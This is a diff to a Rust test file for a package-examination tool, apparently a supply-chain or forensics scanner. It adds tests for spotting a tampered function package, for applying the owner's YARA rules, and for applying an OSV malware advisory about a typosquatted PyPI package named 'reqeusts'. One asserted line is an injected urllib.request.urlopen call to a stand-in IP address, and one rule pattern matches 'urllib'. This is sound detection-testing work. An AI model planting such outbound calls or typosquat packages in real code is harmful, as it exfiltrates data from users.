@@ -218,8 +218,11 @@ async fn a_tampered_package_is_told_from_the_good_one_and_judged() {
         .text_of(&examination, "difference-sealed", ".md")
         .await;
     assert!(text.contains("role/other-role"), "{text}");
+    let line = "+    urllib.request.urlopen('https://198.51.100.9/c'";
+    assert!(text.contains(line), "{text}");
+    assert!(names(&examination).contains(&"difference-function-code.zip-0001-sealed"));
     let json = bench
-        .text_of(&examination, "difference-json-sealed", ".json")
+        .text_of(&examination, "changes-sealed", ".json")
         .await;
     let json: Value = serde_json::from_str(&json).unwrap();
     assert_eq!(json["recorded_at"], "2026-11-20T00:00:00Z");
@@ -476,6 +479,51 @@ async fn an_unusable_file_of_the_owner_is_told_and_costs_nothing_else() {
         .unwrap();
     assert_eq!(finding.severity, Severity::Low);
     assert_eq!(examination.outcome, Outcome::Acquired);
+}
+
+#[tokio::test]
+async fn rules_and_advisories_of_the_owner_are_looked_with_and_broken_ones_left_out() {
+    let rule = |name: &str, text: &str| {
+        format!(
+            "rule {name} {{ meta: severity = \"high\" strings: $a = \"{text}\" condition: $a }}"
+        )
+    };
+    let advisory = json!({
+        "id": "MAL-2026-1", "summary": "steals", "modified": "2026-01-01T00:00:00Z",
+        "affected": [{"package": {"ecosystem": "PyPI", "name": "reqeusts"}, "versions": ["1.0.0"]}],
+    });
+    let bench = Bench::with(
+        Arc::new(Recording::default()),
+        vec![
+            ("rules/a.yar", rule("owners", "urllib").into_bytes()),
+            ("rules/b.yar", b"rule broken {".to_vec()),
+            ("rules/c.yar", vec![0xff; 10]),
+            ("rules/readme.txt", b"no rules".to_vec()),
+            ("osv/MAL-2026-1.json", advisory.to_string().into_bytes()),
+            ("osv/bad.json", b"{".to_vec()),
+        ],
+    );
+    let package = zip(&[
+        ("app.py", BAD),
+        ("reqeusts-1.0.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0.0\n"),
+    ]);
+    let case = Draft::open(&bench.vault)
+        .package(
+            Request::whole(ArtifactKind::FunctionCode),
+            "function-code.zip",
+            &package,
+        )
+        .await
+        .seal("2026-11-23T03:15:10Z")
+        .await;
+    let examination = bench.take(&case, "sealed").await;
+    assert_eq!(examination.outcome, Outcome::Acquired);
+    let told: Vec<_> = examination.findings.iter().map(|it| &it.statement).collect();
+    let tells = |what: &str| told.iter().any(|told| told.contains(what));
+    for what in ["owners", "MAL-2026-1", "rules/b.yar", "rules/c.yar", "osv/bad.json"] {
+        assert!(tells(what), "{what}: {told:#?}");
+    }
+    assert!(!tells("readme"), "{told:#?}");
 }
 
 #[tokio::test]
